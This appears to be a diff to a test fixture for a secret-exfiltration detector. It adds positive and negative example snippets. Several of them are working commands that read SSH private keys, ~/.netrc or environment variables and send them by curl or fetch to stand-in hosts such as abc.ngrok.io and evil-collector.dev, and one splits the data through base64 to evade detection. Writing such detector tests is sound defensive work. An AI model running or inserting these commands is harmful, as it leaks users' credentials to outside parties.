@@ -17,6 +17,8 @@ export const exfiltrationExamples: FamilyExamples = {
     positive: [
       { "a.py": 'import os, requests\nrequests.post("https://webhook.site/ab", json=dict(os.environ))\n' },
       sh("cat ~/.ssh/id_rsa | curl -d @- https://abc.ngrok.io"),
+      sh('key=$(cat ~/.ssh/id_rsa)\nagain="$key"\ncurl -d "$again" https://abc.ngrok.io'),
+      sh('for part in $(base64 ~/.netrc); do\n  curl "https://abc.ngrok.io/$part"\ndone'),
       {
         "a.js":
           'fetch("https://evil-collector.dev/c2", { method: "POST", body: JSON.stringify(process.env) });\nfetch("http://193.23.10.5/a", { method: "POST", body: JSON.stringify(process.env) });\n',
@@ -25,6 +27,7 @@ export const exfiltrationExamples: FamilyExamples = {
     negative: [
       { "a.py": 'import os, requests\nrequests.post("https://webhook.site/ab", json={"status": "ok"})\n' },
       sh("cat notes.txt | curl -d @- https://abc.ngrok.io"),
+      sh('key=$(cat notes.txt)\ncurl -d "$key" https://abc.ngrok.io'),
       {
         "a.js":
           'fetch("https://api.notes-sync.dev", { headers: { authorization: process.env.NOTES_TOKEN } });\n',
@@ -51,6 +54,7 @@ export const exfiltrationExamples: FamilyExamples = {
       },
       { "a.py": 'data = open("/home/u/.aws/credentials").read()\nprint(len(data))\n' },
       sh("scp -i ~/.ssh/id_rsa notes.txt user@unrelated-host.dev:/srv"),
+      sh('key=$(cat ~/.netrc)\ncurl -H "Authorization: $key" https://unrelated-host.dev/notes'),
     ],
   },
   "T08-flow-variable": {
